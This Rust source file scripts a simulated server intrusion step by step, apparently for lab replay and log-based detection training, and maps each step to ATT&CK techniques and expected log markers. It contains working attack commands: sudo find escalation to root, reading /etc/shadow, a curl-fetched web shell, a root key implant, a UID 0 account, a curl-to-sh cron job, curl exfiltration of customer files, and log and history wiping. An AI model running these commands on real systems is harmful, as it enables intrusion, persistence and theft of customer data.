//! The attack as data: each step with what is done, where it shows, and what proves it.

/// One step of the attack.
pub struct Step {
    /// A short name, unique in the recording.
    pub id: &'static str,
    /// What an analyst would write into the timeline.
    pub title: &'static str,
    /// ATT&CK tactic, as a short name.
    pub tactic: &'static str,
    /// ATT&CK v18 technique.
    pub technique: &'static str,
    /// What is done.
    pub act: Act,
    /// How long the attacker reads before the next step.
    pub pause_ms: u64,
    /// Where the step shows: a log and a literal part of one of its lines.
    pub markers: &'static [(&'static str, &'static str)],
    /// Why no kept log shows the step.
    pub invisible: Option<&'static str>,
}

/// The ways in which the attacker acts.
pub enum Act {
    /// The scanner asks for its paths.
    ScanWeb,
    /// Connections to closed ports.
    KnockPorts,
    /// hydra tries accounts and passwords.
    GuessPasswords,
    /// A session as `deploy`.
    LogInWithPassword,
    /// A session as root, after the open one is closed.
    LogInWithKey,
    /// Lines typed into the open session.
    Type(&'static [&'static str]),
    /// Well before cron looks at its tables, which it does in the first two seconds of each minute.
    TypeEarlyInMinute(&'static [&'static str]),
    /// Requests to the site, as arguments for curl.
    Request(&'static [&'static [&'static str]]),
    /// Until the attacker's job has run.
    AwaitCron,
}

const AUTH: &str = "auth.log";
const AUDIT: &str = "audit.log";
const ACCESS: &str = "access.log";

/// The attack, in order.
pub const STEPS: &[Step] = &[
    Step {
        id: "port-scan",
        title: "Knocked at 26 TCP ports of the web server",
        tactic: "reconnaissance",
        technique: "T1595",
        act: Act::KnockPorts,
        pause_ms: 3_400,
        markers: &[],
        invisible: Some(
            "the ports are closed: the kernel refuses the connections and no program hears of them",
        ),
    },
    Step {
        id: "web-scan",
        title: "Scanned the web site for known files and flaws",
        tactic: "reconnaissance",
        technique: "T1595.002",
        act: Act::ScanWeb,
        pause_ms: 6_800,
        markers: &[
            (ACCESS, "203.0.113.66 - - ["),
            (ACCESS, "\"GET /.git/config HTTP/1.1\" 404"),
            (ACCESS, "Nikto/2.5.0"),
        ],
        invisible: None,
    },
    Step {
        id: "brute-force",
        title: "Guessed passwords of six accounts over SSH",
        tactic: "credential-access",
        technique: "T1110.001",
        act: Act::GuessPasswords,
        pause_ms: 10_200,
        markers: &[
            (AUTH, "Failed password for root from 203.0.113.66"),
            (AUTH, "Failed password for invalid user oracle from 203.0.113.66"),
            (AUTH, "Accepted password for deploy from 203.0.113.66"),
            (AUDIT, "addr=203.0.113.66 terminal=ssh res=failed"),
        ],
        invisible: None,
    },
    Step {
        id: "login",
        title: "Logged in as deploy with the guessed password",
        tactic: "initial-access",
        technique: "T1078.003",
        act: Act::LogInWithPassword,
        pause_ms: 4_200,
        markers: &[
            (AUTH, "Accepted password for deploy from 203.0.113.66"),
            (AUDIT, "hostname=203.0.113.66 addr=203.0.113.66 terminal=/dev/pts/"),
        ],
        invisible: None,
    },
    Step {
        id: "discover-user",
        title: "Asked who the account is",
        tactic: "discovery",
        technique: "T1033",
        act: Act::Type(&["id"]),
        pause_ms: 4_200,
        markers: &[(AUDIT, "argc=1 a0=\"id\"")],
        invisible: None,
    },
    Step {
        id: "discover-system",
        title: "Asked for the system's version",
        tactic: "discovery",
        technique: "T1082",
        act: Act::Type(&["uname -a"]),
        pause_ms: 3_400,
        markers: &[(AUDIT, "argc=2 a0=\"uname\" a1=\"-a\"")],
        invisible: None,
    },
    Step {
        id: "discover-accounts",
        title: "Read the list of accounts",
        tactic: "discovery",
        technique: "T1087.001",
        act: Act::Type(&["cat /etc/passwd"]),
        pause_ms: 6_800,
        markers: &[(AUDIT, "argc=2 a0=\"cat\" a1=\"/etc/passwd\"")],
        invisible: None,
    },
    Step {
        id: "discover-sudo",
        title: "Asked what the account may do with sudo",
        tactic: "discovery",
        technique: "T1069.001",
        act: Act::Type(&["sudo -l"]),
        pause_ms: 5_100,
        markers: &[(AUDIT, "argc=2 a0=\"sudo\" a1=\"-l\"")],
        invisible: None,
    },
    Step {
        id: "discover-network",
        title: "Listed listening ports",
        tactic: "discovery",
        technique: "T1049",
        act: Act::Type(&["ss -tlnp"]),
        pause_ms: 5_100,
        markers: &[(AUDIT, "argc=2 a0=\"ss\" a1=\"-tlnp\"")],
        invisible: None,
    },
    Step {
        id: "escalate",
        title: "Became root through the sudo rule for find",
        tactic: "privilege-escalation",
        technique: "T1548.003",
        act: Act::Type(&["sudo find . -exec /bin/sh \\; -quit", "id"]),
        pause_ms: 4_200,
        markers: &[
            (AUTH, "USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ; -quit"),
            (AUDIT, "a0=\"find\" a1=\".\" a2=\"-exec\" a3=\"/bin/sh\" a4=\";\" a5=\"-quit\""),
            (AUDIT, "argc=1 a0=\"/bin/sh\""),
        ],
        invisible: None,
    },
    Step {
        id: "read-shadow",
        title: "Read the password hashes",
        tactic: "credential-access",
        technique: "T1003.008",
        act: Act::Type(&["cat /etc/shadow"]),
        pause_ms: 5_100,
        markers: &[(AUDIT, "argc=2 a0=\"cat\" a1=\"/etc/shadow\"")],
        invisible: None,
    },
    Step {
        id: "web-shell",
        title: "Put a web shell among the site's assets",
        tactic: "persistence",
        technique: "T1505.003",
        act: Act::Type(&[
            "cd /srv/www/html/assets",
            "curl -fsS -o thumb.php http://203.0.113.66/t.txt",
            "touch -r app.css thumb.php",
        ]),
        pause_ms: 5_100,
        markers: &[
            (AUDIT, "a0=\"curl\" a1=\"-fsS\" a2=\"-o\" a3=\"thumb.php\" a4=\"http://203.0.113.66/t.txt\""),
            (AUDIT, "name=\"thumb.php\""),
            (AUDIT, "key=\"webroot\""),
            (AUDIT, "key=\"outbound\""),
        ],
        invisible: None,
    },
    Step {
        id: "use-web-shell",
        title: "Called the web shell",
        tactic: "command-and-control",
        technique: "T1071.001",
        act: Act::Request(&[
            &["http://192.0.2.10/assets/thumb.php?cmd=id"],
            &["http://192.0.2.10/assets/thumb.php?cmd=uname%20-a"],
            &["--data", "cmd=ls -la /srv", "http://192.0.2.10/assets/thumb.php"],
        ]),
        pause_ms: 5_100,
        markers: &[
            (ACCESS, "\"GET /assets/thumb.php?cmd=id HTTP/1.1\" 200"),
            (ACCESS, "\"POST /assets/thumb.php HTTP/1.1\" 200"),
        ],
        invisible: None,
    },
    Step {
        id: "authorised-key",
        title: "Added a key to root's authorised keys",
        tactic: "persistence",
        technique: "T1098.004",
        act: Act::Type(&["curl -fsS http://203.0.113.66/k >> /root/.ssh/authorized_keys"]),
        pause_ms: 5_100,
        markers: &[
            (AUDIT, "name=\"/root/.ssh/authorized_keys\""),
            (AUDIT, "a0=\"curl\" a1=\"-fsS\" a2=\"http://203.0.113.66/k\""),
        ],
        invisible: None,
    },
    Step {
        id: "account",
        title: "Created the account support with user id 0",
        tactic: "persistence",
        technique: "T1136.001",
        act: Act::Type(&[
            "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support",
            "echo support:Winter-2026 | chpasswd",
        ]),
        pause_ms: 5_100,
        markers: &[
            (AUTH, "new user: name=support, UID=0, GID=0"),
            (AUTH, "password changed for support"),
            (AUDIT, "a0=\"useradd\" a1=\"-o\" a2=\"-u\" a3=\"0\""),
            (AUDIT, "key=\"identity\""),
        ],
        invisible: None,
    },
    Step {
        id: "cron-job",
        title: "Added a cron job that runs a downloaded script",
        tactic: "persistence",
        technique: "T1053.003",
        act: Act::TypeEarlyInMinute(&[
            "echo '* * * * * root curl -fsS http://203.0.113.66/u.sh | sh' > /etc/cron.d/sysupdate",
            "chmod 644 /etc/cron.d/sysupdate",
        ]),
        pause_ms: 1_700,
        markers: &[
            (AUDIT, "name=\"/etc/cron.d/sysupdate\""),
            (AUDIT, "a0=\"chmod\" a1=\"644\" a2=\"/etc/cron.d/sysupdate\""),
        ],
        invisible: None,
    },
    Step {
        id: "cron-run",
        title: "The cron job ran as root and fetched its script",
        tactic: "command-and-control",
        technique: "T1105",
        act: Act::AwaitCron,
        pause_ms: 3_400,
        markers: &[
            (AUTH, "(root) CMD (curl -fsS http://203.0.113.66/u.sh | sh)"),
            (AUDIT, "a0=\"curl\" a1=\"-fsS\" a2=\"http://203.0.113.66/u.sh\""),
        ],
        invisible: None,
    },
    Step {
        id: "return-as-root",
        title: "Left and came back as root with the added key",
        tactic: "persistence",
        technique: "T1078.003",
        act: Act::LogInWithKey,
        pause_ms: 4_200,
        markers: &[
            (AUTH, "pam_unix(sshd:session): session closed for user deploy"),
            (AUTH, "Accepted publickey for root from 203.0.113.66"),
        ],
        invisible: None,
    },
    Step {
        id: "stop-history",
        title: "Switched the shell's history off",
        tactic: "defense-evasion",
        technique: "T1070.003",
        act: Act::Type(&["unset HISTFILE"]),
        pause_ms: 3_400,
        markers: &[],
        invisible: Some("a shell builtin: it starts no program and touches no watched file"),
    },
    Step {
        id: "find-customers",
        title: "Looked for files worth taking",
        tactic: "discovery",
        technique: "T1083",
        act: Act::Type(&["ls -la /srv /srv/customers"]),
        pause_ms: 4_200,
        markers: &[(AUDIT, "a1=\"-la\" a2=\"/srv\" a3=\"/srv/customers\"")],
        invisible: None,
    },
    Step {
        id: "stage",
        title: "Packed the customer files",
        tactic: "collection",
        technique: "T1560.001",
        act: Act::Type(&["tar czf /var/tmp/.c.tgz -C /srv customers"]),
        pause_ms: 4_200,
        markers: &[
            (AUDIT, "a0=\"tar\" a1=\"czf\" a2=\"/var/tmp/.c.tgz\" a3=\"-C\" a4=\"/srv\" a5=\"customers\""),
            (AUDIT, "key=\"customer_data\""),
        ],
        invisible: None,
    },
    Step {
        id: "exfiltrate",
        title: "Uploaded the packed customer files",
        tactic: "exfiltration",
        technique: "T1048.003",
        act: Act::Type(&["curl -fsS -T /var/tmp/.c.tgz http://203.0.113.66/in/c.tgz"]),
        pause_ms: 5_100,
        markers: &[
            (
                AUDIT,
                "a0=\"curl\" a1=\"-fsS\" a2=\"-T\" a3=\"/var/tmp/.c.tgz\" a4=\"http://203.0.113.66/in/c.tgz\"",
            ),
            (AUDIT, "key=\"outbound\""),
        ],
        invisible: None,
    },
    Step {
        id: "remove-archive",
        title: "Deleted the packed files",
        tactic: "defense-evasion",
        technique: "T1070.004",
        act: Act::Type(&["shred -u /var/tmp/.c.tgz"]),
        pause_ms: 3_400,
        markers: &[(AUDIT, "a0=\"shred\" a1=\"-u\" a2=\"/var/tmp/.c.tgz\"")],
        invisible: None,
    },
    Step {
        id: "clear-log",
        title: "Emptied the web server's error log",
        tactic: "defense-evasion",
        technique: "T1070.002",
        act: Act::Type(&["truncate -s 0 /var/log/nginx/error.log"]),
        pause_ms: 3_400,
        markers: &[
            (AUDIT, "a0=\"truncate\" a1=\"-s\" a2=\"0\" a3=\"/var/log/nginx/error.log\""),
            (AUDIT, "key=\"logs\""),
        ],
        invisible: None,
    },
];
